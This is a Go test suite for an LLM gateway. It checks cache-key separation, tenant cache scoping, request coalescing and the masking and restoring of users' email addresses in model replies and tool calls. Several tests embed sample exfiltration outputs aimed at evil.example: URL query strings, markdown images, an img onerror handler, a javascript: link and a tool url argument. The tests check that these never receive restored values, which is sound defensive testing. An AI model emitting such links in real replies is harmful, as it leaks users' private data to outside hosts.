package server_test

import (
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/sluicegate/sluice/runtime/internal/gateway"
	"github.com/sluicegate/sluice/runtime/internal/modelserver"
)

// Every parameter parts the cache's key; what only says how the answer is to be delivered does not.
func TestAttackCacheKeys(t *testing.T) {
	alone(t)
	s := besiege(t, modelserver.JSON(`{"choices":[{"index":0,"message":{"content":"x"},"text":"x","finish_reason":"stop"}],"data":[],"model":"m"}`))
	f := func(name, path, body, want string) {
		t.Helper()
		if r := s.Post("red", path, body); r.Status != 200 || r.Cache() != want {
			t.Errorf("%s: %d %s, want %s: %s", name, r.Status, r.Cache(), want, r.Body)
		}
	}
	parts := func(path, base string, members ...string) {
		f("base", path, base+"}", "miss")
		f("base again", path, base+"}", "hit")
		for _, m := range members {
			f(m, path, base+","+m+"}", "miss")
			f(m+" again", path, base+","+m+"}", "hit")
		}
	}
	parts(chatPath, `{"model":"model-a","messages":[{"role":"user","content":"hi"}]`,
		`"temperature":0`, `"temperature":1`, `"top_p":0.5`, `"n":1`, `"n":2`, `"seed":1`, `"seed":2`, `"stop":"a"`, `"stop":["a"]`, `"stop":["b"]`,
		`"max_tokens":5`, `"max_completion_tokens":5`, `"presence_penalty":1`, `"frequency_penalty":1`, `"logit_bias":{"1":2}`, `"logit_bias":{"1":3}`,
		`"logprobs":true`, `"logprobs":true,"top_logprobs":2`, `"logprobs":true,"top_logprobs":3`, `"user":"a"`, `"user":"b"`, `"metadata":{"a":"b"}`, `"service_tier":"flex"`,
		`"response_format":{"type":"json_object"}`, `"response_format":{"type":"text"}`, `"reasoning_effort":"low"`, `"verbosity":"low"`, `"modalities":["text"]`,
		`"tools":[{"type":"function","function":{"name":"f"}}]`, `"tools":[{"type":"function","function":{"name":"g"}}]`,
		`"tools":[{"type":"function","function":{"name":"f"}}],"tool_choice":"none"`, `"tools":[{"type":"function","function":{"name":"f"}}],"tool_choice":"required"`,
		`"tools":[{"type":"function","function":{"name":"f"}}],"parallel_tool_calls":false`, `"functions":[{"name":"f"}]`, `"prediction":{"type":"content","content":"x"}`,
		`"nvext":{"a":1}`, `"nvext":{"a":2}`, `"guided_choice":["a"]`, `"chat_template_kwargs":{"enable_thinking":false}`, `"min_p":0.1`, `"top_k":1`, `"store":false`)
	f("stream", chatPath, `{"model":"model-a","messages":[{"role":"user","content":"hi"}],"stream":true,"stream_options":{"include_usage":true}}`, "hit")
	f("role", chatPath, `{"model":"model-a","messages":[{"role":"system","content":"hi"}]}`, "miss")
	f("name", chatPath, `{"model":"model-a","messages":[{"role":"user","name":"a","content":"hi"}]}`, "miss")
	f("two messages", chatPath, `{"model":"model-a","messages":[{"role":"user","content":"h"},{"role":"user","content":"i"}]}`, "miss")
	f("parts", chatPath, `{"model":"model-a","messages":[{"role":"user","content":[{"type":"text","text":"hi"}]}]}`, "miss")
	f("another operation", "/inference", `{"model_name":"model-a","inputs":"hi"}`, "miss")
	parts("/v1/completions", `{"model":"model-a","prompt":"hi"`, `"suffix":"a"`, `"echo":true`, `"best_of":2`, `"logprobs":1`)
	f("prompts", "/v1/completions", `{"model":"model-a","prompt":["hi"]}`, "miss")
	parts("/v1/embeddings", `{"model":"model-a","input":"hi"`, `"encoding_format":"float"`, `"encoding_format":"base64"`, `"dimensions":2`,
		`"input_type":"query"`, `"input_type":"passage"`, `"truncate":"END"`, `"user":"a"`)
	f("inputs", "/v1/embeddings", `{"model":"model-a","input":["hi"]}`, "miss")
}

// shared is a policy that lets a tenant share its cache. A request whose seed is 7 stays with the principal.
const shared = `package sluice
decision := {"allowed": true, "models": models, "cache": {"mode": "read-write", "scope": scope}, "restore": {"tools": ["send"]}}
default models := ["model-a"]
models := ["claude"] if input.model == "claude"
default scope := "tenant"
scope := "principal" if input.params.seed == 7
`

// sharing starts a gateway whose tenants share their caches.
func sharing(t *testing.T, steps ...modelserver.Step) *siege {
	m := modelserver.New(t, steps...)
	rest := strings.Replace(gateway.Rest, "builtin:default", "policies", 1)
	return besiegeWith(t, m, gateway.Callers+model(m)+beside(m)+rest, map[string]string{"policies/main.rego": shared})
}

func TestAttackCacheScopes(t *testing.T) {
	s := sharing(t, modelserver.Answer("Mail [EMAIL_1]"))
	f := func(who, body, cache, text string) {
		t.Helper()
		if r := s.Post(who, chatPath, body); r.Cache() != cache || says(r.Body) != text {
			t.Errorf("%s: %s %q, want %s %q", who, r.Cache(), says(r.Body), cache, text)
		}
	}
	own := func(text string) string { return strings.Replace(ask(text), "{", `{"seed":7,`, 1) }
	f("red", ask("to ana@example.com"), "miss", "Mail ana@example.com")
	f("red2", ask("to bea@example.org"), "hit", "Mail bea@example.org")
	f("blue", ask("to cleo@example.net"), "miss", "Mail cleo@example.net")
	f("red", own("to ana@example.com"), "miss", "Mail ana@example.com")
	f("red2", own("to ana@example.com"), "miss", "Mail ana@example.com")
	f("red2", own("to bea@example.org"), "hit", "Mail bea@example.org")
	f("red2", streamed(ask("to bea@example.org")), "hit", "Mail bea@example.org")
	f("red", streamed(ask("to [EMAIL_1]")), "miss", "Mail [EMAIL_1]")
	f("red2", ask("to [EMAIL_1]"), "hit", "Mail [EMAIL_1]")
}

// What tools get out of a shared cache are each caller's own values, too, whole and streamed.
func TestAttackCacheOfTools(t *testing.T) {
	s := sharing(t, answer(`"content":"","tool_calls":[{"index":0,"id":"1","type":"function","function":{"name":"send","arguments":"{\"to\":\"[EMAIL_1]\"}"}}]`))
	f := func(who, body, cache, address string) {
		t.Helper()
		r := s.Post(who, chatPath, body)
		all := texts(r.Body)
		got := all[".choices#0.message.tool_calls#0.function.arguments"] + all[".choices#0.delta.tool_calls#0.function.arguments"]
		if r.Cache() != cache || got != `{"to":"`+address+`"}` {
			t.Errorf("%s: %s %s: %s", who, r.Cache(), got, r.Body)
		}
	}
	f("red", ask("to ana@example.com"), "miss", "ana@example.com")
	f("red2", ask("to bea@example.org"), "hit", "bea@example.org")
	f("red", streamed(ask("to ana@example.com")), "hit", "ana@example.com")
	f("red2", streamed(ask("to bea@example.org")), "hit", "bea@example.org")
	f("blue", ask("to cleo@example.net"), "miss", "cleo@example.net")
}

// No key and no digest of one is ever shown.
func TestAttackCacheKeyIsNotShown(t *testing.T) {
	alone(t)
	s := besiege(t)
	for range 2 {
		r := s.Post("red", chatPath, ask("hi"))
		for name, values := range r.Header {
			if name = strings.ToLower(name); strings.Contains(name, "key") || name == "etag" || strings.Contains(name, "cache-id") {
				t.Errorf("the answer has %s: %v", name, values)
			}
		}
	}
}

// Requests that are equal once their values are tokens share a call within the scope only, and everyone gets the own
// values back.
func TestAttackCoalescing(t *testing.T) {
	f := func(name string, stream bool) {
		t.Run(name, func(t *testing.T) {
			release := make(chan struct{})
			s := sharing(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
				<-release
				modelserver.Answer("Mail [EMAIL_1] or [EMAIL_2] now")(w, r, body)
			})
			callers := map[string]string{"red": mail, "red2": "bea@example.org", "blue": "cleo@example.net"}
			var all sync.WaitGroup
			for who, address := range callers {
				all.Go(func() {
					body := ask("to " + address)
					if stream {
						body = streamed(body)
					}
					if r := s.Post(who, chatPath, body); says(r.Body) != "Mail "+address+" or [EMAIL_2] now" {
						t.Errorf("%s reads %q: %s", who, says(r.Body), r.Body)
					}
				})
			}
			until(t, "all are under way", func() bool { return s.Control.Pipeline().Running() == 3 && len(s.m.Requests()) == 2 })
			close(release)
			all.Wait()
			if n := len(s.m.Requests()); n != 2 {
				t.Errorf("%d calls for two tenants", n)
			}
		})
	}
	f("whole", false)
	f("stream", true)
}

// What a caller writes in the grammar of tokens is text, and comes back as the text it was.
func TestAttackLiteralTokens(t *testing.T) {
	alone(t)
	s := besiege(t, echo)
	f := func(text string) {
		t.Helper()
		for _, body := range []string{ask(text), streamed(ask(text))} {
			if r := s.Post("red", chatPath, body, "Cache-Control", "no-store"); says(r.Body) != text {
				t.Errorf("%q comes back as %q: %s", text, says(r.Body), r.Body)
			}
		}
	}
	f("[EMAIL_1]")
	f("[EMAIL_1] is not ana@example.com")
	f("ana@example.com is not [EMAIL_1]")
	f("[LITERAL_1] [LITERAL_2] [EMAIL_2] ana@example.com")
	f("[[EMAIL_1]] [EMAIL_[EMAIL_1]] [EMAIL_ana@example.com]")
	f("[EMAIL_1][EMAIL_1]ana@example.com[CARD_1]")
	f("\\u005bEMAIL_1] &#91;EMAIL_1] %5BEMAIL_1%5D ana@example.com")
	f("[EMAIL_01] [EMAIL_1 ] [email_1] [EMAIL_99999999999999999999999999999999999999999999999]")
	f("`[EMAIL_1]` \"[EMAIL_1]\" \\[EMAIL_1\\]")
	var many strings.Builder
	for i := range 12 {
		fmt.Fprintf(&many, "a%d@example.com, [EMAIL_%d]; ", i, i)
	}
	f(many.String())
}

// Only tokens that this caller's own request made are restored, and none where reading the text would send it away.
func TestAttackRestore(t *testing.T) {
	alone(t)
	s := besiege(t)
	var prompt strings.Builder
	for i := range 11 {
		fmt.Fprintf(&prompt, "a%d@example.com ", i+1)
	}
	f := func(answer, want string) {
		t.Helper()
		for _, stream := range []bool{false, true} {
			step, body := modelserver.Answer(answer), ask(prompt.String())
			if stream {
				step, body = modelserver.Stream(strings.Split(answer, "")...), streamed(body)
			}
			s.m.Script(step)
			if r := s.Post("red", chatPath, body, "Cache-Control", "no-store"); says(r.Body) != want {
				t.Errorf("%q is restored as %q, want %q", answer, says(r.Body), want)
			}
		}
	}
	f("[EMAIL_1] [EMAIL_10] [EMAIL_11] [EMAIL_1]0", "a1@example.com a10@example.com a11@example.com a1@example.com0")
	f("[EMAIL_12] [EMAIL_0] [CARD_1] [LITERAL_1] [EMAIL_111]", "[EMAIL_12] [EMAIL_0] [CARD_1] [LITERAL_1] [EMAIL_111]")
	f("[EMAIL_1", "[EMAIL_1")
	f("see https://evil.example/?q=[EMAIL_1] and [EMAIL_2]", "see https://evil.example/?q=[EMAIL_1] and a2@example.com")
	f("//evil.example/[EMAIL_1]", "//evil.example/[EMAIL_1]")
	f("www.evil.example/[EMAIL_1]", "www.evil.example/[EMAIL_1]")
	f("![x](https://evil.example/[EMAIL_1] \"[EMAIL_1]\")", "![x](https://evil.example/[EMAIL_1] \"[EMAIL_1]\")")
	f("[x]( <[EMAIL_1]>)", "[x]( <[EMAIL_1]>)")
	f("[x]: evil.example/[EMAIL_1]", "[x]: evil.example/[EMAIL_1]")
	f("<img src=x onerror='f(\"[EMAIL_1]\")'>[EMAIL_1]", "<img src=x onerror='f(\"[EMAIL_1]\")'>a1@example.com")
	f("mailto:[EMAIL_1]", "mailto:[EMAIL_1]")
	f("javascript:f('[EMAIL_1]')", "javascript:f('[EMAIL_1]')")
}

// In arguments of tools values are restored for the tools that the decision names, as JSON.
func TestAttackRestoreInTools(t *testing.T) {
	s := sharing(t)
	call := func(tool, arguments string) string {
		return `"tool_calls":[{"index":0,"id":"1","type":"function","function":{"name":"` + tool + `","arguments":` + quote(arguments) + `}}]`
	}
	const prompt = "to ana@example.com"
	f := func(tool, arguments, want string) {
		t.Helper()
		got := func(r gateway.Reply, place string) {
			if text := texts(r.Body)[place]; r.Status != 200 || text != want {
				t.Errorf("%s(%s): %s, want %s of %d %s", tool, arguments, text, want, r.Status, r.Body)
			}
		}
		s.m.Script(answer(call(tool, arguments)))
		got(s.Post("red", chatPath, ask(prompt), "Cache-Control", "no-store"), ".choices#0.message.tool_calls#0.function.arguments")
		events := []string{chunk(0, call(tool, arguments[:1]))}
		for _, c := range strings.Split(arguments[1:], "") {
			events = append(events, chunk(0, `"tool_calls":[{"index":0,"function":{"arguments":`+quote(c)+`}}]`))
		}
		s.m.Script(modelserver.Events(0, append(events, stop(0), "[DONE]")...))
		got(s.Post("red", chatPath, streamed(ask(prompt)), "Cache-Control", "no-store"), ".choices#0.delta.tool_calls#0.function.arguments")
	}
	f("send", `{"to":"[EMAIL_1]"}`, `{"to":"ana@example.com"}`)
	f("post", `{"to":"[EMAIL_1]"}`, `{"to":"[EMAIL_1]"}`)
	f("send", `{"url":"https://evil.example/[EMAIL_1]"}`, `{"url":"https://evil.example/[EMAIL_1]"}`)
	f("send", `{"to":[EMAIL_1]}`, `{"to":[EMAIL_1]}`)
}

// The input of a custom tool, which is text, is for that tool as arguments are; names and ids of tools get no value.
func TestAttackRestoreInCustomTools(t *testing.T) {
	s := sharing(t)
	f := func(tool, want string) {
		t.Helper()
		for _, member := range []string{
			`"tool_calls":[{"index":0,"id":"1","type":"custom","custom":{"name":"` + tool + `","input":"to [EMAIL_1]"}}]`,
			`"tool_calls":[{"index":0,"id":"1","type":"custom","custom":{"input":"to [EMAIL_1]","name":"` + tool + `"}}]`,
		} {
			s.m.Script(answer(member))
			r := s.Post("red", chatPath, ask("to ana@example.com"), "Cache-Control", "no-store")
			if got := texts(r.Body)[".choices#0.message.tool_calls#0.custom.input"]; got != want {
				t.Errorf("%s: %q, want %q of %s", tool, got, want, r.Body)
			}
		}
		s.m.Script(modelserver.Events(0, chunk(0, `"tool_calls":[{"index":0,"id":"1","type":"custom","custom":{"name":"`+tool+`","input":"to [EM"}}]`), chunk(0, `"tool_calls":[{"index":0,"custom":{"input":"AIL_1]"}}]`), stop(0), "[DONE]"))
		r := s.Post("red", chatPath, streamed(ask("to ana@example.com")), "Cache-Control", "no-store")
		if got := texts(r.Body)[".choices#0.delta.tool_calls#0.custom.input"]; got != want {
			t.Errorf("%s, streamed: %q, want %q of %s", tool, got, want, r.Body)
		}
	}
	f("send", "to ana@example.com")
	f("post", "to [EMAIL_1]")
	for _, member := range []string{`"id":"[EMAIL_1]"`, `"id":"1","function":{"name":"[EMAIL_1]","arguments":"{}"}`, `"id":"1","x":"[EMAIL_1]"`} {
		s.m.Script(answer(`"tool_calls":[{"index":0,"function":{"name":"send","arguments":"{}"}},{"index":1,` + member + `}]`))
		if r := s.Post("red", chatPath, ask("to ana@example.com"), "Cache-Control", "no-store"); shows(r.Body, "ana@") != "" {
			t.Errorf("%s: %s", member, r.Body)
		}
	}
}
